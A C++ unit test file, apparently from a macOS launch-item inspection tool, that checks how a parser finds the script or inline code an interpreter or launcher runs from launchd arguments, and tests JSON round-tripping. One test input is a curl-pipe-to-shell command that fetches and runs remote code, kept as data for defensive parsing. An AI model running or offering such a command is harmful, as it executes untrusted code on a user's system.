#include "model/RunningProgram.h"

#include "model/LaunchItemJson.h"

#include <gtest/gtest.h>

namespace daemonary {
namespace {

struct Case {
    std::optional<std::string> program;
    std::vector<std::string> arguments;
    std::optional<RunningProgram> expected;
};

RunningProgram script(std::string path, std::string through) {
    return {RunningKind::script, std::move(path), std::move(through)};
}
RunningProgram launched(std::string path, std::string through) {
    return {RunningKind::program, std::move(path), std::move(through)};
}
RunningProgram inlineCode(std::string through) {
    return {RunningKind::inlineCommand, std::nullopt, std::move(through)};
}

// A signer or a fingerprint taken from the interpreter would vouch for code
// nobody signed; each line is a way launchd definitions hand code to one.
TEST(RunningProgramTest, FindsTheCodeAnInterpreterOrLauncherRuns) {
    const std::vector<Case> cases = {
        {{}, {"/bin/sh", "-c", "curl -s https://example.invalid/x | sh"}, inlineCode("/bin/sh")},
        {{}, {"/bin/bash", "-lc", "exec evil"}, inlineCode("/bin/bash")},
        {{},
         {"/bin/zsh", "-o", "pipefail", "-l", "/Users/me/bin/run.zsh", "-c"},
         script("/Users/me/bin/run.zsh", "/bin/zsh")},
        {{},
         {"/bin/bash", "--rcfile", "/etc/rc", "--", "-named-like-an-option.sh"},
         script("/-named-like-an-option.sh", "/bin/bash")},
        {{}, {"/bin/sh"}, inlineCode("/bin/sh")},              // reads standard input
        {{}, {"/bin/ksh", "-s", "x"}, inlineCode("/bin/ksh")}, // so does -s
        {{"/bin/tcsh"}, {"tcsh", "-f", "/opt/a.csh"}, script("/opt/a.csh", "/bin/tcsh")},
        {{},
         {"/usr/bin/python3", "-u", "-W", "ignore", "/opt/agent.py", "-c"},
         script("/opt/agent.py", "/usr/bin/python3")},
        {{},
         {"/usr/local/bin/python3.12", "-Ic", "import os"},
         inlineCode("/usr/local/bin/python3.12")},
        {{}, {"/usr/bin/python3", "-m", "http.server"}, inlineCode("/usr/bin/python3")},
        {{},
         {"/usr/bin/perl", "-I", "/opt/lib", "-w", "/opt/a.pl"},
         script("/opt/a.pl", "/usr/bin/perl")},
        {{}, {"/usr/bin/perl5.34", "-Mstrict", "-ne", "print"}, inlineCode("/usr/bin/perl5.34")},
        {{}, {"/usr/bin/ruby", "-r", "json", "-e", "puts 1"}, inlineCode("/usr/bin/ruby")},
        {{},
         {"/usr/local/bin/node", "--require", "x", "/opt/a.js"},
         script("/opt/a.js", "/usr/local/bin/node")},
        {{}, {"/usr/local/bin/node", "--eval=require('x')"}, inlineCode("/usr/local/bin/node")},
        {{},
         {"/usr/bin/osascript", "-l", "JavaScript", "/opt/a.scpt"},
         script("/opt/a.scpt", "/usr/bin/osascript")},
        {{},
         {"/usr/bin/osascript", "-e", "do shell script \"x\""},
         inlineCode("/usr/bin/osascript")},
        // Launchers hand on to the next program, which may be an interpreter.
        {{},
         {"/usr/bin/env", "-i", "PATH=/bin", "/bin/sh", "/opt/a.sh"},
         script("/opt/a.sh", "/usr/bin/env")},
        {{}, {"/usr/bin/env", "-S", "python3 -c print(1)"}, inlineCode("/usr/bin/env")},
        {{},
         {"/usr/bin/env", "-u", "HOME", "/opt/bin/agent", "--flag"},
         launched("/opt/bin/agent", "/usr/bin/env")},
        {{}, {"/usr/bin/env", "agent"}, inlineCode("/usr/bin/env")}, // found through PATH
        {{},
         {"/usr/bin/nohup", "/usr/bin/nice", "-n", "5", "/bin/bash", "/opt/b.sh"},
         script("/opt/b.sh", "/usr/bin/nohup")},
        {{},
         {"/usr/bin/arch", "-arm64", "-e", "A=1", "/opt/bin/agent"},
         launched("/opt/bin/agent", "/usr/bin/arch")},
        {{},
         {"/usr/bin/open", "-g", "-a", "/Applications/Evil.app", "--args", "/x"},
         launched("/Applications/Evil.app", "/usr/bin/open")},
        {{}, {"/usr/bin/open", "-a", "Evil"}, inlineCode("/usr/bin/open")},
        {{},
         {"/usr/bin/open", "/Users/me/run.command"},
         script("/Users/me/run.command", "/usr/bin/open")},
        // Programs that run their own code.
        {{}, {"/usr/libexec/trustd"}, std::nullopt},
        {{}, {"/usr/bin/caffeinate", "-i"}, std::nullopt},
        {{}, {"/opt/bin/shell"}, std::nullopt},
        {{}, {}, std::nullopt},
    };
    for (const Case& c : cases) {
        std::string shown = c.program.value_or("-");
        for (const std::string& argument : c.arguments) {
            shown += " " + argument;
        }
        EXPECT_EQ(runningProgram(c.program, c.arguments), c.expected) << shown;
    }
}

TEST(RunningProgramTest, RelativeScriptsLieInTheWorkingDirectory) {
    EXPECT_EQ(runningProgram(std::nullopt, {"/bin/sh", "run.sh"}, "/opt/tool"),
              script("/opt/tool/run.sh", "/bin/sh"));
    EXPECT_EQ(runningProgram(std::nullopt, {"/bin/sh", "run.sh"}), script("/run.sh", "/bin/sh"));
}

TEST(RunningProgramTest, RecordsKeepWhatRunsThroughJson) {
    for (const RunningProgram& runs : {script("/opt/a.sh", "/bin/sh"),
                                       launched("/opt/x", "/usr/bin/env"), inlineCode("/bin/sh")}) {
        LaunchItem item;
        item.label = "com.example.agent";
        item.executablePath = runs.through;
        item.runs = runs;
        const auto read = launchItemFromJson(nlohmann::json::parse(toJson(item).dump()));
        ASSERT_TRUE(std::holds_alternative<LaunchItem>(read)) << toJson(item).dump();
        EXPECT_EQ(std::get<LaunchItem>(read), item);
    }
    const auto base = nlohmann::json{
        {"label", "x"}, {"status", "Active"}, {"scope", "User"}, {"type", "Launch Agent"}};
    for (const nlohmann::json& runs :
         {nlohmann::json{{"kind", "inline"}, {"path", "/opt/a.sh"}},
          nlohmann::json{{"kind", "script"}}, nlohmann::json{{"kind", "shell"}},
          nlohmann::json("inline")}) {
        nlohmann::json object = base;
        object["runs"] = runs;
        EXPECT_TRUE(std::holds_alternative<JsonError>(launchItemFromJson(object))) << runs.dump();
    }
}

} // namespace
} // namespace daemonary
